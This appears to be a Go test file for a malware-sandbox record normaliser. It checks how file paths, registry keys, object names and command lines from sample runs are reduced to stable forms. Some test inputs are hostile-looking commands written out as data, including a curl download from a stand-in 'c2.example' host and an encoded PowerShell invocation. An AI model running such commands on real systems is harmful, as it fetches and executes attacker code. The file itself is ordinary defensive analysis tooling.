package record

import (
	"strings"
	"testing"
)

func TestWhatDiffersFromRunToRunIsBlanked(t *testing.T) {
	for name, c := range map[string]struct {
		form     func(string) string
		in, want string
	}{
		"roaming":               {Path, `C:\Users\Bruno\AppData\Roaming\Rare\Payload.exe`, `%appdata%\rare\payload.exe`},
		"roaming_by_variable":   {Path, `%USERPROFILE%\AppData\Roaming\Rare\Payload.exe`, `%appdata%\rare\payload.exe`},
		"roaming_of_xp":         {Path, `c:\Documents and Settings\b\Application Data\x.exe`, `%appdata%\x.exe`},
		"local":                 {Path, `%USERPROFILE%\AppData\Local\x\y`, `%localappdata%\x\y`},
		"temporary":             {Path, `C:\Users\B~1\AppData\Local\Temp\tmp4F2A.tmp`, `%temp%\tmp#.tmp`},
		"temporary_by_variable": {Path, `%TMP%\nsv9C1.tmp\System.dll`, `%temp%\nsv#.tmp\system.dll`},
		"native":                {Path, `\??\C:\Windows\System32\x.dll`, `%windir%\system32\x.dll`},
		"programs":              {Path, `C:\Program Files (x86)\A\b.exe`, `%programfiles%\a\b.exe`},
		"identifier":            {Path, `C:\x\{3F2504E0-4F89-11D3-9A0C-0305E82C3301}.dat`, `c:\x\{guid}.dat`},
		"home":                  {Path, `/home/user/.config/x`, `~/.config/x`},
		"digest":                {Path, `C:\x\` + strings.Repeat("a1", 16) + `.exe`, `c:\x\#.exe`},
		"own_hive":              {RegistryKey, `\REGISTRY\USER\S-1-5-21-1-2-3-1000\Software\Rare`, `hkcu\software\rare`},
		"own_hive_of_sysmon":    {RegistryKey, `HKU\S-1-5-21-1-2-3-1000\Software\Rare`, `hkcu\software\rare`},
		"machine":               {RegistryKey, `HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\rare\`, `hklm\system\currentcontrolset\services\rare`},
		"session":               {ObjectName, `\Sessions\1\BaseNamedObjects\RareMutex`, `RareMutex`},
		"local_name_space":      {ObjectName, `Local\RareMutex`, `RareMutex`},
		"pipe":                  {ObjectName, `\Device\NamedPipe\Rare`, `\\.\pipe\Rare`},
		"command":               {CommandLine, `"C:\Windows\System32\cmd.exe"  /c ping 203.0.113.7 -n 12345`, `%windir%\system32\cmd.exe /c ping {ip} -n #`},
		"download":              {CommandLine, `curl http://c2.example/a?b -o x`, `curl {url} -o x`},
		"encoded":               {CommandLine, `powershell -enc ` + strings.Repeat("QUJD", 20), `powershell -enc {base64}`},
		"own_image":             {CommandLine, `"%SAMPLEPATH%\` + strings.Repeat("ab", 32) + `.exe" /s`, `%sample% /s`},
	} {
		if got := c.form(c.in); got != c.want {
			t.Errorf("%s: %q is %q, want %q", name, c.in, got, c.want)
		}
	}
}

func FuzzBehaviour(f *testing.F) {
	f.Add(`C:\Users\Bruno\AppData\Roaming\Rare\Payload.exe`)
	f.Add(`\REGISTRY\USER\S-1-5-21-1-2-3-1000_Classes\x`)
	f.Fuzz(func(t *testing.T, text string) {
		for name, form := range map[string]func(string) string{"path": Path, "key": RegistryKey, "command": CommandLine, "object": ObjectName} {
			if got := form(text); len(got) > 4*maxBehaviour {
				t.Fatalf("%s of %d bytes has %d", name, len(text), len(got))
			}
		}
	})
}
